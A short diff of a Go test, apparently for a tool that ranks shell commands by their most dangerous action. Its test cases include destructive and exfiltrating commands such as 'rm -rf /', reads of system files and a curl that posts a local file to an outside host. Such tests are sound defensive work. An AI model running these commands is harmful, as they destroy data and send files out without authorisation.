@@ -11,7 +11,7 @@ import (
 // in the call.
 func TestWorstFirst(t *testing.T) {
 	for _, tc := range []struct{ command, first string }{
-		{"cat /etc/hosts; rm -r src", "workspace/delete"},
+		{"cat /etc/crontab; rm -r src", "workspace/delete"},
 		{"ls /root; curl -d @notes.txt https://a.example", "egress/send"},
 		{"rm -r src; curl -d x=1 https://a.example", "egress/send"},
 		{"cat ../x; rm -rf /", "protected/delete"},
